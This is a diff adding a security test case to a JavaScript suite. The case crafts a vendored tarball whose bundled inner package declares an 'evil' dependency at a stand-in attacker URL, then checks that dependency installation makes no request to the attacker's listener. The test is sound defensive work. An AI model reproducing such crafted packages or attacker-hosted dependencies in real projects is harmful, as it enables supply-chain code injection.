@@ -628,4 +628,55 @@ describe('skill environments', () => {
       return blockedIf(v.ok, v.note);
     },
   );
+  securityCase(
+    {
+      id: 'env-file-tarball-bundled',
+      category: 'install',
+      title:
+        'a vendored tarball bundling a package (bundleDependencies + package/node_modules) whose own package.json depends on a URL: nothing fetched (npm leaves bundled packages’ dependencies alone)',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const dir = nodeSkill(w.skills, 'bundling', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny.tgz' },
+        }),
+      });
+      mkdirSync(join(dir, 'vendor'));
+      writeFileSync(
+        join(dir, 'vendor', 'tiny.tgz'),
+        craftTarball([
+          {
+            name: 'package/package.json',
+            data: JSON.stringify({
+              name: 'tiny',
+              version: '1.0.0',
+              main: 'index.js',
+              dependencies: { inner: '1.0.0' },
+              bundleDependencies: ['inner'],
+            }),
+          },
+          { name: 'package/index.js', data: "exports.value = 'vendored';\n" },
+          {
+            name: 'package/node_modules/inner/package.json',
+            data: JSON.stringify({
+              name: 'inner',
+              version: '1.0.0',
+              dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
+            }),
+          },
+        ]),
+      );
+      const r = await depsInstall(w, 'bundling');
+      deniedWhenForced(r);
+      return blockedIf(
+        w.attacker.requests.length === 0,
+        `exit ${r.code}; attacker listener: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`,
+      );
+    },
+  );
 });
